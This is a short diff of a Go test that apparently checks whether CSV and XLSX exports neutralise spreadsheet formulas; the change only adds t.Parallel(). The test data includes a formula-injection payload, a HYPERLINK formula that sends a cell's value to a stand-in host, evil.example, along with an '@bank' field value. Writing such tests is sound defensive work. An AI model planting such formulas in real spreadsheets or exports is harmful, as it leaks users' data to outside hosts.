@@ -17,6 +17,7 @@ const hyperlink = `=HYPERLINK("http://evil.example/?d="&B2,"x")`
 // decimal amounts stay numbers; in the XLSX the name is a string cell,
 // never a formula.
 func TestExportsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	lines := []Line{{ClaimID: "c1", SupplierUSCC: "91350100M000100Y43", SupplierName: hyperlink, BankID: "@bank",
 		ApplicationID: "a1", PaidOn: money.MustDate("2027-02-20"), InterestPaid: money.MustAmount("6900.00"),
 		PolicyVersion: 1, Amount: money.MustAmount("3100.00")}}
